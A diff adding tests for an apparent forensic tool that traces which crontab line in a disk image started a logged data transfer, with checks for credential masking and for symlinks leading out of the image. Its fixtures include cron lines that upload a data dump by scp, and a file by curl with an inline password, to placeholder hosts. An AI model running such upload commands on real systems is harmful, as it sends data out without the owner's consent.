@@ -1,0 +1,111 @@
+"""--root: what in the image starts a transfer."""
+import os
+
+import harness
+from harness import as_nobody, check, has, lacks, run, test, write
+from story import Story, scp_job
+
+LINE = "0 2 * * * root scp -q /srv/data/dump.tar drop@203.0.113.10:up/\n"
+
+
+def image(story=None):
+    write("image/etc/hostname", "etl-01\n")
+    write("image/etc/passwd", "root:x:0:0::/root:/bin/sh\n")
+    story = story or scp_job()
+    story.chatter()
+    write("image/var/log/audit/audit.log", story.text())
+
+
+def job(**how):
+    row = run("transfers", "--root", "image", **how).rows()[0]
+    reasons = {reason["sign"]: reason["text"] for reason in row["automation"]["reasons"]}
+    return row["automation"]["job"]["artefact"], reasons
+
+
+@test("--root: the line that starts it is the job's artefact, and a reason")
+def _():
+    image()
+    write("image/etc/crontab", "# x\n" + LINE)
+    write("image/etc/timezone", "Europe/Berlin\n")
+    artefact, reasons = job()
+    check(artefact == "/etc/crontab:2", "artefact", artefact)
+    check(reasons["registered"] == "started by line 2 of /etc/crontab (0 2 * * *, Europe/Berlin)",
+          "reason", reasons)
+    has(run("scan", "--root", "image", code=1).out, "started by line 2 of /etc/crontab")
+
+
+@test("--root: unregistered is said only where all tables could be read")
+def _():
+    image()
+    write("image/etc/crontab", "1 1 * * * root true\n")
+    artefact, reasons = job()
+    check(artefact is None and "unregistered" not in reasons, "no spool", artefact, reasons)
+    spool = write("image/var/spool/cron/crontabs/alice", "1 1 * * * true\n")
+    artefact, reasons = job()
+    check(artefact is None, "artefact", artefact)
+    check(reasons["unregistered"] == "no crontab of the image starts it", "reason", reasons)
+    has(run("scan", "--root", "image", code=1).out, "no crontab of the image starts it")
+    spool.parent.chmod(0)
+    for folder in (harness.WORK / "image").rglob("*"):
+        if folder.is_dir() and folder != spool.parent:
+            folder.chmod(0o755)
+    _, reasons = job(prefix=as_nobody())
+    spool.parent.chmod(0o755)
+    check("unregistered" not in reasons, "a spool without permission", reasons)
+
+
+@test("--root: without an image nothing is said of what starts things")
+def _():
+    image()
+    write("image/etc/crontab", LINE)
+    row = run("transfers", "image/var/log/audit").rows()[0]
+    check(row["automation"]["job"]["artefact"] is None, "artefact", row)
+    check([r["sign"] for r in row["automation"]["reasons"]] == ["cron", "no-terminal"], "reasons",
+          row)
+
+
+@test("--root: lines that would start the same are said, the one due last is named")
+def _():
+    image()
+    write("image/etc/crontab", LINE + LINE)
+    artefact, reasons = job()
+    check(artefact == "/etc/crontab:1", "the first", artefact)
+    check(reasons["ambiguous"] == "line 2 of /etc/crontab (0 2 * * *) would start the same",
+          "reason", reasons)
+    write("image/etc/timezone", "Europe/Berlin\n")
+    write("image/etc/crontab", LINE.replace(" 2 ", " 1 ") + LINE + LINE.replace(" 2 ", " 3 "))
+    artefact, reasons = job()
+    check(artefact == "/etc/crontab:2", "at 02:00 in Berlin", artefact)
+    check("ambiguous" not in reasons, "reasons", reasons)
+
+
+@test("--root: commands are compared as the log has them, and shown masked")
+def _():
+    story = Story()
+    command = "curl -u me:Sw0rdfish -T f ftp://203.0.113.20/"
+    story.cron_job(command).fork(702).exec("/usr/bin/curl", *command.split()).upload(
+        5, "203.0.113.20", 21, 150_000_000)
+    image(story)
+    write("image/etc/crontab", f"0 1 * * * root {command.replace('Sw0rdfish', 'other')}\n"
+                               f"0 2 * * * root {command}\n")
+    artefact, _ = job()
+    check(artefact == "/etc/crontab:2", "the one with that password", artefact)
+    lacks(run("transfers", "--root", "image").out, "Sw0rdfish", "other")
+
+
+@test("--root: jobs of other nodes in the image's log are not its own")
+def _():
+    image(scp_job(Story(node="bk-07")))
+    write("image/etc/crontab", LINE)
+    artefact, reasons = job()
+    check(artefact is None and "registered" not in reasons, "reasons", artefact, reasons)
+
+
+@test("--root: tables are read from inside the image alone")
+def _():
+    image()
+    os.symlink(write("outside/crontab", LINE), harness.WORK / "image/etc/crontab")
+    os.symlink("/proc/self/environ", harness.WORK / "image/etc/anacrontab")
+    os.mkfifo(harness.WORK / "image/etc/rc.local")
+    artefact, _ = job()
+    check(artefact is None, "a link led out", artefact)
